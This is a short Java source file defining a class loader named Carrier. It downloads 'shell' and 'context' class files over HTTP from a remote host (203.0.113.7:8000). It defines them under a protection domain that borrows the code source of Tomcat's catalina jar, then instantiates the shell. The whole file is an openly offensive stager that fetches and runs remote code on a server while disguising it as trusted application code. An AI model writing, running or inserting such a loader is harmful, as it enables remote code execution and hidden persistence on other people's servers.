import java.io.ByteArrayInputStream;
import java.io.InputStream;
import java.net.URL;
import java.net.URLClassLoader;
import java.security.CodeSource;
import java.security.ProtectionDomain;
import java.security.cert.Certificate;

/** A class loader that gives the shell the code source of one of the application's jars. */
public class Carrier extends URLClassLoader {
  private final byte[] shell;

  public Carrier() throws Exception {
    super(new URL[0], Thread.currentThread().getContextClassLoader());
    shell = new URL("http://203.0.113.7:8000/shell").openStream().readAllBytes();
    byte[] context = new URL("http://203.0.113.7:8000/context").openStream().readAllBytes();
    URL jar =
        Class.forName("org.apache.catalina.core.StandardContext")
            .getProtectionDomain()
            .getCodeSource()
            .getLocation();
    ProtectionDomain domain =
        new ProtectionDomain(new CodeSource(jar, (Certificate[]) null), null, this, null);
    defineClass(null, context, 0, context.length, domain);
    defineClass(null, shell, 0, shell.length, domain).getConstructor().newInstance();
  }

  @Override
  public InputStream getResourceAsStream(String name) {
    return name.equals("Shell.class")
        ? new ByteArrayInputStream(shell)
        : super.getResourceAsStream(name);
  }
}
